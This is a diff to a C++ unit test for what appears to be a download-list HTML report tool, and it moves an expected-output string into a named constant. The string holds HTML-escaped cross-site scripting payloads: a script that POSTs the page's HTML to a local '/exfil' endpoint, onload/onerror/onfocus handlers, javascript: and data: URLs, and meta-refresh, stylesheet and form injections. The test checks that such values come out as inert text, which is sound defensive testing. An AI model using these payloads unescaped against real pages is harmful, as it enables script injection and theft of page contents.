@@ -187,49 +187,51 @@ std::vector<DownloadKey> ReadDownloadList(const std::string& reg_path) {
   return keys;
 }
 
+// The report of the hostile download list under the template
+// "{&Name|&URL|&Out|&DOut|&Size|&Discr}": every value comes out as text.
+const char kHostileListReport[] =
+    R"(01 script|https://example.org/a.zip|C:\Downloads\a.zip|file://C:\Downloads\|1024|)"
+    R"(&lt;script&gt;addEventListener(&#39;load&#39;,function(){fetch(&#39;http://127.0.0.1:8765/)"
+    R"(exfil&#39;,{method:&#39;POST&#39;,mode:&#39;no-cors&#39;,body:document.documentElement.)"
+    R"(outerHTML})})&lt;/script&gt;)"
+    "\r\n"
+    R"(02 &lt;svg onload=fetch(&#39;http://127.0.0.1:8765/svg&#39;)&gt;|https://example.org/b.zip|)"
+    R"(C:\Downloads\b.zip|file://C:\Downloads\|1|&lt;img src=http://127.0.0.1:8765/img )"
+    R"(onerror=fetch(&#39;http://127.0.0.1:8765/onerror&#39;)&gt;)"
+    "\r\n"
+    R"(03 quotes|https://example.org/&quot; autofocus onfocus=&quot;fetch(&#39;)"
+    R"(http://127.0.0.1:8765/focus&#39;)|)"
+    R"(C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\&quot;&gt;)"
+    R"(&lt;script src=http://127.0.0.1:8765/out.js&gt;&lt;/script&gt;.zip|)"
+    // The folder ends at the last backslash or colon, here the port's.
+    R"(file://C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\)"
+    R"(&quot;&gt;&lt;script src=http://127.0.0.1:|-1|)"
+    R"(&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=http://127.0.0.1:8765/)"
+    R"(refresh&quot;&gt;)"
+    "\r\n"
+    R"(04 comment|https://example.org/?a=1&amp;b=2&amp;lt;&amp;#39;|C:\Downloads\notes.txt|)"
+    R"(file://C:\Downloads\|2|Release notes &lt;!--)"
+    "\r\n"
+    R"(05 javascript|javascript:fetch(&#39;http://127.0.0.1:8765/javascript&#39;)|)"
+    R"(C:\Music\Mix #3\track.mp3|file://C:\Music\Mix %233\|3|)"
+    R"(&lt;base href=&quot;http://127.0.0.1:8765/&quot;&gt;&lt;link rel=stylesheet )"
+    R"(href=&quot;http://127.0.0.1:8765/css&quot;&gt;&lt;style&gt;@import )"
+    R"(&#39;http://127.0.0.1:8765/import&#39;;&lt;/style&gt;)"
+    "\r\n"
+    R"(06 data|data:text/html,&lt;script&gt;fetch(&#39;http://127.0.0.1:8765/data&#39;))"
+    R"(&lt;/script&gt;|D:\Backup\100%\it&#39;s &amp; more.zip|file://D:\Backup\100%25\|4|)"
+    R"(&lt;/td&gt;&lt;/tr&gt;&lt;/tbody&gt;&lt;/table&gt;&lt;form )"
+    R"(action=http://127.0.0.1:8765/form&gt;&lt;button autofocus&gt;Send&lt;/button&gt;)"
+    R"(&lt;/form&gt;)"
+    "\r\n"
+    R"(07 spaced scheme| JavaScript:fetch(&#39;http://127.0.0.1:8765/spaced&#39;)|)"
+    R"(E:\%23\x.bin|file://E:\%2523\|5|last row)"
+    "\r\n";
+
 TEST(Hostile, ValuesAimedAtThePageComeOutAsText) {
   SetHtmHandler(true);
-  const BigCase c = {
-      "hostile list", ReadDownloadList(TALLYWEB_HOSTILE_LIST),
-      "{\r\n&Name|&URL|&Out|&DOut|&Size|&Discr\r\n}\r\n",
-      R"(01 script|https://example.org/a.zip|C:\Downloads\a.zip|file://C:\Downloads\|1024|)"
-      R"(&lt;script&gt;addEventListener(&#39;load&#39;,function(){fetch(&#39;http://127.0.0.1:8765/)"
-      R"(exfil&#39;,{method:&#39;POST&#39;,mode:&#39;no-cors&#39;,body:document.documentElement.)"
-      R"(outerHTML})})&lt;/script&gt;)"
-      "\r\n"
-      R"(02 &lt;svg onload=fetch(&#39;http://127.0.0.1:8765/svg&#39;)&gt;|https://example.org/b.zip|)"
-      R"(C:\Downloads\b.zip|file://C:\Downloads\|1|&lt;img src=http://127.0.0.1:8765/img )"
-      R"(onerror=fetch(&#39;http://127.0.0.1:8765/onerror&#39;)&gt;)"
-      "\r\n"
-      R"(03 quotes|https://example.org/&quot; autofocus onfocus=&quot;fetch(&#39;)"
-      R"(http://127.0.0.1:8765/focus&#39;)|)"
-      R"(C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\&quot;&gt;)"
-      R"(&lt;script src=http://127.0.0.1:8765/out.js&gt;&lt;/script&gt;.zip|)"
-      // The folder ends at the last backslash or colon, here the port's.
-      R"(file://C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\)"
-      R"(&quot;&gt;&lt;script src=http://127.0.0.1:|-1|)"
-      R"(&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=http://127.0.0.1:8765/)"
-      R"(refresh&quot;&gt;)"
-      "\r\n"
-      R"(04 comment|https://example.org/?a=1&amp;b=2&amp;lt;&amp;#39;|C:\Downloads\notes.txt|)"
-      R"(file://C:\Downloads\|2|Release notes &lt;!--)"
-      "\r\n"
-      R"(05 javascript|javascript:fetch(&#39;http://127.0.0.1:8765/javascript&#39;)|)"
-      R"(C:\Music\Mix #3\track.mp3|file://C:\Music\Mix %233\|3|)"
-      R"(&lt;base href=&quot;http://127.0.0.1:8765/&quot;&gt;&lt;link rel=stylesheet )"
-      R"(href=&quot;http://127.0.0.1:8765/css&quot;&gt;&lt;style&gt;@import )"
-      R"(&#39;http://127.0.0.1:8765/import&#39;;&lt;/style&gt;)"
-      "\r\n"
-      R"(06 data|data:text/html,&lt;script&gt;fetch(&#39;http://127.0.0.1:8765/data&#39;))"
-      R"(&lt;/script&gt;|D:\Backup\100%\it&#39;s &amp; more.zip|file://D:\Backup\100%25\|4|)"
-      R"(&lt;/td&gt;&lt;/tr&gt;&lt;/tbody&gt;&lt;/table&gt;&lt;form )"
-      R"(action=http://127.0.0.1:8765/form&gt;&lt;button autofocus&gt;Send&lt;/button&gt;)"
-      R"(&lt;/form&gt;)"
-      "\r\n"
-      R"(07 spaced scheme| JavaScript:fetch(&#39;http://127.0.0.1:8765/spaced&#39;)|)"
-      R"(E:\%23\x.bin|file://E:\%2523\|5|last row)"
-      "\r\n",
-      ""};
+  const BigCase c = {"hostile list", ReadDownloadList(TALLYWEB_HOSTILE_LIST),
+                     "{\r\n&Name|&URL|&Out|&DOut|&Size|&Discr\r\n}\r\n", kHostileListReport, ""};
   ASSERT_EQ(7u, c.list.size());
   PlantDownloadList(c.list);
   ExpectWholeRun(c, Build::kWindows);
